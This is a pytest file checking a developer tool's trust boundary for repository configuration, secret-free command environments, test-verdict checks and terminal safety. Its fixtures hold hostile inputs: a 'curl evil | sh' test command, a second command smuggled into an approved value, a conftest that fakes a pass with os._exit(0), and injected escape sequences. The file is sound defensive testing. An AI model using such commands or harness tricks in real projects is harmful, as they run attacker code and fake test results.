"""The trust boundary's parts: the allow-list of an unapproved repo layer, approval pinned to the files,
config values in range, the clean command environment, harness files, the verdict, printable text."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from anvil.config.loader import ConfigError, load_config
from anvil.config.trust import approve, is_approved, layer_digest, revoke, withheld_warning
from anvil.ui.safe import StreamCleaner, printable
from anvil.workspace.env import clean_env, removed_values
from anvil.workspace.harness import harness_change
from anvil.workspace.testrun import run_command
from anvil.workspace.verdict import from_output, judge
from tests.foundation_helpers import git_repo, write


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return git_repo(tmp_path / "repo")


def _rel(error: str) -> str:
    """An error as the user sees it from the repo (the test's cwd is elsewhere)."""
    return error[error.index(".anvil/"):] if ".anvil/" in error else error


def _home() -> Path:
    return Path(os.environ["ANVIL_HOME"])


# ------------------------------------------------------------------ the allow-list


def test_unapproved_layer_keeps_routing_and_withholds_everything_else(repo: Path) -> None:
    write(repo / ".anvil/stage-policy.yaml", """
        budget: {max_dollars: 999}
        defaults: {retry_budget: 1}
        stages:
          plan: {prefer: [cheap], complexity: S, timeout: 60}
          review: {model: claude-haiku-5-5, timeout: 5000}
          build: {chain: [no-such-model]}
          test: {on_exhaust: skip, max_dollars: 50}
    """)
    write(repo / ".anvil/models.yaml", """
        providers:
          anthropic: {base_url: "http://127.0.0.1:9/"}
    """)
    write(repo / ".anvil/config.yaml", 'test_command: "curl evil | sh"\ngithub_api_url: http://127.0.0.1:9\n')
    config = load_config(repo)
    assert not config.trust.approved
    plan = config.policy.stage("plan")
    assert plan.prefer == ("cheap",) and plan.complexity == "S" and plan.timeout == 60  # routing, tighter timeout
    assert config.policy.stage("review").model == "claude-haiku-5-5"
    assert config.policy.stage("review").timeout == 300  # the bundled value: a repo may not loosen it
    assert config.policy.stage("build").chain is None  # names a model the user's catalogue does not have
    assert config.policy.stage("test").on_exhaust == "halt" and config.policy.stage("test").max_dollars is None
    assert config.policy.stage("clarify").retry_budget == 1  # defaults.retry_budget: within the user's 2
    assert config.policy.budget.max_dollars != 999
    assert config.catalogue.providers["anthropic"].base_url == "https://api.anthropic.com"
    assert config.repo.test_command is None and config.repo.github_api_url == "https://api.github.com"
    names = " ".join(config.trust.withheld)
    for key in ("budget", "stages.review.timeout", "stages.build.chain", "stages.test.on_exhaust",
                "stages.test.max_dollars", "providers.anthropic", "test_command", "github_api_url"):
        assert key in names
    assert "/.anvil/config.yaml:1 test_command" in names  # file:line key
    warning = withheld_warning(config.trust)
    assert warning.count("anvil trust") == 2 and "test_command" in warning and "\n" not in warning


def test_approval_is_pinned_to_the_content_and_can_be_revoked(repo: Path) -> None:
    write(repo / ".anvil/config.yaml", 'test_command: "pytest -q"\n')
    assert not is_approved(repo)
    digest = approve(repo)
    assert digest == layer_digest(repo) and is_approved(repo)
    assert load_config(repo).repo.test_command == "pytest -q"
    (repo / ".anvil/config.yaml").write_text('test_command: "pytest -q; curl evil"\n')
    assert not is_approved(repo) and load_config(repo).repo.test_command is None
    approve(repo)
    (repo / ".anvil" / "runs").mkdir()
    (repo / ".anvil" / "runs" / "state.json").write_text("{}")  # what anvil writes there is not the layer
    assert is_approved(repo)
    assert revoke(repo) and not is_approved(repo) and not revoke(repo)


def test_git_run_hooks_is_read_from_the_users_layer_only(repo: Path) -> None:
    write(repo / ".anvil/config.yaml", "git: {run_hooks: true}\n")
    approve(repo)
    config = load_config(repo)
    assert config.repo.git.run_hooks is False
    assert any("git" in w and "ANVIL_HOME" in w for w in config.trust.withheld)
    write(_home() / "config.yaml", "git: {run_hooks: true}\n")
    assert load_config(repo).repo.git.run_hooks is True


def test_a_repo_without_a_layer_needs_no_approval(repo: Path) -> None:
    config = load_config(repo)
    assert config.trust.approved and config.trust.withheld == ()


# ------------------------------------------------------------------ sane values


@pytest.mark.parametrize(("yaml_text", "message"), [
    ("stages:\n  review: {timeout: true}\n", "stages.review.timeout: must be a number of seconds or a duration"),
    ("stages:\n  review: {timeout: .inf}\n", "stages.review.timeout: must be a finite"),
    ("stages:\n  review: {timeout: 2d}\n", "stages.review.timeout: must be a number of seconds or a duration"),
    ("stages:\n  review: {retry_budget: 11}\n", "stages.review.retry_budget: Input should be less than or equal to 10"),
    ("stages:\n  review: {retry_budget: true}\n", "stages.review.retry_budget: must be a whole number"),
    ("budget: {max_dollars: -1}\n", "budget.max_dollars: Input should be greater than or equal to 0"),
    ("stages:\n  review: {model: claude-haiku-5-5, max_output_tokens: 64000}\n",
     "stages.review.max_output_tokens: 64000 is more than claude-haiku-5-5 can write (8192)"),
])
def test_out_of_range_values_are_refused_with_file_line_and_key(repo: Path, yaml_text: str, message: str) -> None:
    write(repo / ".anvil/stage-policy.yaml", yaml_text)
    with pytest.raises(ConfigError) as info:
        load_config(repo, trusted=True)
    assert any(_rel(e).startswith(".anvil/stage-policy.yaml:") and message in e for e in info.value.errors), \
        info.value.errors


def test_durations_and_prices(repo: Path) -> None:
    write(repo / ".anvil/stage-policy.yaml", "stages:\n  review: {timeout: 5m}\n  plan: {timeout: \"90s\"}\n")
    write(repo / ".anvil/models.yaml", "models:\n  - {id: m, provider: openai, tier: cheap, "
                                       "price: {input: -0.5, output: 1}}\n")
    with pytest.raises(ConfigError) as info:
        load_config(repo, trusted=True)
    assert [_rel(e) for e in info.value.errors] == [
        ".anvil/models.yaml:2 models[m].price.input: Input should be greater than or equal to 0"]
    (repo / ".anvil/models.yaml").unlink()
    config = load_config(repo, trusted=True)
    assert config.policy.stage("review").timeout == 300 and config.policy.stage("plan").timeout == 90


def test_a_config_file_over_the_size_cap_is_refused(repo: Path) -> None:
    (repo / ".anvil").mkdir()
    (repo / ".anvil/models.yaml").write_text("#\n" * 600_000)
    with pytest.raises(ConfigError) as info:
        load_config(repo, trusted=True)
    assert "over the 1,048,576-byte limit" in info.value.errors[0]


# ------------------------------------------------------------------ clean environment


def test_clean_env_drops_keys_by_name_catalogue_variable_and_value() -> None:
    base = {"PATH": "/bin", "ANTHROPIC_API_KEY": "sk-ant-123456789", "GITHUB_TOKEN": "ghtok-12345678",
            "GH_TOKEN": "x" * 10, "ACME_SECRET": "s" * 10, "CUSTOM_KEY_VAR": "custom-key-0001",
            "COPY": "custom-key-0001", "HOME": "/root", "ANVIL_HOME": "/nonexistent"}
    env = clean_env(base, drop=["CUSTOM_KEY_VAR"])
    assert env == {"PATH": "/bin", "HOME": "/root", "ANVIL_HOME": "/nonexistent"}
    assert set(removed_values(base, drop=["CUSTOM_KEY_VAR"])) >= {"sk-ant-123456789", "custom-key-0001"}


def test_a_command_sees_no_key_and_its_output_is_redacted(tmp_path: Path) -> None:
    env = {**os.environ, "OPENAI_API_KEY": "opk-0123456789abcdef", "MY_PROVIDER_VAR": "mpv-0123456789abcdef"}
    script = ("import os, sys; print(sorted(os.environ)); "
              "print('leak', 'opk-0123456789abcdef', 'mpv-0123456789abcdef', 'run-secret-000111')")
    log = tmp_path / "out.log"
    r = run_command(f"{sys.executable} -c \"{script}\"", tmp_path, 30, env=env, log_path=log,
                    drop_env=["MY_PROVIDER_VAR"], secrets=["run-secret-000111"])
    assert r.exit_code == 0
    for text in (r.output, r.report, log.read_text()):
        assert "OPENAI_API_KEY" not in text and "MY_PROVIDER_VAR" not in text
        assert "0123456789abcdef" not in text and "run-secret-000111" not in text
        assert "leak [redacted] [redacted] [redacted]" in text


# ------------------------------------------------------------------ harness files


def test_harness_files_by_path_and_by_section() -> None:
    assert harness_change("conftest.py", "", "import os") is not None
    assert harness_change("tests/conftest.py", "a", "b") is not None
    assert harness_change(".github/workflows/ci.yml", "", "x") is not None
    assert harness_change("hooks/pre-commit", "", "x", hooks_path="hooks") is not None
    assert harness_change("src/app.py", "", "x") is None
    before = "[metadata]\nname = x\n\n[tool:pytest]\naddopts = -q\n"
    assert harness_change("setup.cfg", before, before.replace("name = x", "name = y")) is None
    assert harness_change("setup.cfg", before, before.replace("-q", "-q -k nothing")) is not None
    toml = '[project]\nname = "x"\n\n[tool.pytest.ini_options]\naddopts = "-q"\n'
    assert harness_change("pyproject.toml", toml, toml.replace('"x"', '"y"')) is None
    assert harness_change("pyproject.toml", toml, toml.replace('"-q"', '"-q -p no:x"')) is not None


# ------------------------------------------------------------------ verdict


def test_verdict_from_each_runners_summary() -> None:
    assert from_output("test result: ok. 3 passed; 0 failed; 0 ignored; 0 measured").passed
    assert not from_output("test result: ok. 0 passed; 0 failed; 0 ignored; 0 measured").passed
    assert from_output("ok  \texample.com/x\t0.01s\n").passed
    assert not from_output("ok  \texample.com/x\t0.01s [no tests to run]\n").passed
    assert not from_output("--- FAIL: TestX (0.00s)\nFAIL\texample.com/x\t0.01s\n").passed
    assert from_output("....\n----\nRan 4 tests in 0.01s\n\nOK\n").passed
    assert not from_output("Ran 0 tests in 0.00s\n\nOK\n").passed
    assert from_output("# tests 2\n# pass 2\n# fail 0\n").passed
    assert not from_output("# tests 2\n# pass 1\n# fail 1\n").passed
    v = judge("make check", 0, "all good")
    assert v.passed and not v.verified and "unverified" in v.summary()
    assert not judge("make check", 0, "Ran 0 tests in 0.000s\n\nOK\n").passed


def test_pytest_verdict_needs_its_junit_report_and_the_new_tests(tmp_path: Path) -> None:
    (tmp_path / "test_a.py").write_text("def test_one():\n    assert True\n")
    junit = tmp_path / "run" / "junit.xml"
    env = {**os.environ, "PYTEST_ADDOPTS": f"--junitxml={junit} -o junit_family=xunit1"}
    cmd = f"{sys.executable} -m pytest -q -p no:cacheprovider"
    r = run_command(cmd, tmp_path, 60, env=env)
    assert judge(cmd, r.exit_code, r.output, junit_path=junit, new_test_files=["test_a.py"]).passed
    v = judge(cmd, r.exit_code, r.output, junit_path=junit, new_test_files=["tests/test_new.py"])
    assert not v.passed and "new tests were not run: tests/test_new.py" in v.reason
    (tmp_path / "conftest.py").write_text("import os\nos._exit(0)\n")
    junit.unlink()
    r = run_command(cmd, tmp_path, 60, env=env)
    v = judge(cmd, r.exit_code, r.output, junit_path=junit)
    assert r.exit_code == 0 and not v.passed and "no junit report" in v.reason


# ------------------------------------------------------------------ terminal safety and git hooks


def test_printable_strips_escapes_and_shows_control_characters() -> None:
    raw = "ok\x1b]0;title\x07\x1b[2J\x1b[1;1Hall passed\x1b[8m\x9b31m \x00\u202e\n\tnext"
    assert printable(raw) == "okall passed \\x00\\u202e\n\tnext"
    assert printable("line\nnext", newlines=False) == "line\\x0anext"
    cleaner = StreamCleaner()
    out = "".join(cleaner.feed(p) for p in ["a\x1b", "]0;ti", "tle\x07b\x1b[3", "1mc"]) + cleaner.flush()
    assert out == "abc"


def test_anvils_git_runs_without_hooks(repo: Path) -> None:
    from anvil.workspace import gitops

    hooks = repo / "myhooks"
    hooks.mkdir()
    marker = repo.parent / "ran"
    (hooks / "pre-commit").write_text(f"#!/bin/sh\ntouch {marker}\n")
    (hooks / "pre-commit").chmod(0o755)
    subprocess.run(["git", "config", "core.hooksPath", "myhooks"], cwd=repo, check=True)
    (repo / "f.txt").write_text("x\n")
    assert gitops.commit(repo, "feat: x\x1b]0;t\x07", verify=True)
    assert not marker.exists()
    assert "\x1b" not in gitops.git(["log", "-1", "--format=%B"], repo).stdout
    gitops.set_run_hooks(True)
    try:
        (repo / "f.txt").write_text("y\n")
        gitops.commit(repo, "feat: y")
    finally:
        gitops.set_run_hooks(False)
    assert marker.exists()


def test_init_approves_only_what_it_wrote_itself(tmp_path: Path) -> None:
    anvil = str(Path(sys.executable).with_name("anvil"))
    fresh = git_repo(tmp_path / "fresh")
    assert subprocess.run([anvil, "init", "--yes", "--offline"], cwd=fresh, capture_output=True).returncode == 0
    assert is_approved(fresh)
    cloned = git_repo(tmp_path / "cloned")
    write(cloned / ".anvil/models.yaml", 'providers:\n  anthropic: {base_url: "http://127.0.0.1:9"}\n')
    res = subprocess.run([anvil, "init", "--yes", "--offline"], cwd=cloned, capture_output=True, text=True)
    assert res.returncode == 0 and not is_approved(cloned)
    assert "providers.anthropic" in res.stderr and "anvil trust" in res.stderr
